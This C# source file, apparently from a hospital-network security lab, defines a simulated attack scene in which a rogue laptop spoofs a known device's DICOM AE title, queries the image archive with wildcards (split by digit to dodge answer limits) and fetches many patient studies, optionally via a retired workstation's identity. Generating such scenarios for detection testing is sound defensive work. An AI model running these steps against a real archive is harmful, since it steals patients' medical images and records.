using Wardkeeper.Lab.Hospital;
using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Services.Dicom;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Dicom;

/// <summary>
/// A laptop takes a known device's AE title, asks the archive for everything with wildcards, and fetches what it finds: on its own
/// association, or by having the archive move it to the AE title of a workstation that is gone and whose address the laptop took.
/// </summary>
internal sealed class Harvest() : Scene("dicom-harvest",
    "A laptop that calls itself by a known AE title asks the archive for all patients with wildcards and fetches study after study.",
    "一台笔记本电脑冒用已知的 AE 标题，用通配符查询归档系统中的全部患者，并逐个取走检查影像。",
    "T1213", "T1119", "T1078")
{
    private const int MostStudies = 40;

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => Retrieval.Needs;

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HospitalDevice archive = stage.Dice.Of(Cast.Archives(stage.Site));
        string title = stage.Dice.Of(Cast.Some(Cast.Inside(stage.Site).Where(device => device.AeTitle is not null && device.Key != archive.Key), "no device but the archive has an AE title")).AeTitle!;
        string[] asked = stage.Dice.Some(["PatientBirthDate", "PatientSex", "StudyDate", "StudyDescription", "AccessionNumber", "ModalitiesInStudy", "ReferringPhysicianName"], stage.Dice.Between(2, 5));
        // Everything at once, or day by day and digit by digit, as scripts do against limits on answers.
        string[][] queries = stage.Dice.Of<string[][]>([[["PatientName=*", "PatientID"]], [["PatientName=*", "PatientID"], ["PatientID=*", "PatientName"]], [.. Enumerable.Range(0, 10).Select(digit => new[] { $"PatientID=*{digit}", "PatientName" })]]);
        int most = stage.Dice.Between(MostStudies / 2, MostStudies);
        HospitalDevice laptop = RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department);
        RetiredStation? retired = stage.Dice.For("way").Chance(50) ? null : RetiredStation.Of(stage.Site);
        if (retired is not null) laptop = laptop with { Department = retired.Department, Ip = retired.Ip };
        HostNamespace rogue = await stage.PlugAsync(laptop, cancel);
        string folder = stage.Folder("harvest");

        stage.Begin();
        SortedSet<string> found = new(StringComparer.Ordinal);
        foreach (string[] query in queries) found.UnionWith(await Retrieval.FindAsync(stage, rogue, archive, title, ["StudyInstanceUID", .. query, .. asked], cancel));
        if (found.Count == 0) throw new LabException($"nothing can be harvested: {archive.Key} holds no study");
        string[] taken = stage.Dice.Some(found, most);
        int images = 0;
        foreach (string study in taken)
        {
            images += await Retrieval.FetchAsync(stage, rogue, archive, title, retired?.AeTitle, study, folder, cancel);
            await Task.Delay(stage.Dice.Time(0, 250), cancel);
        }
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("archive", archive.Key), ("title", title), ("queries", SceneStage.Text(queries.Length)), ("found", SceneStage.Text(found.Count)), ("retrieved", SceneStage.Text(taken.Length)), ("images", SceneStage.Text(images)), .. retired is null ? [] : new[] { ("destination", retired.AeTitle) }]);
    }
}
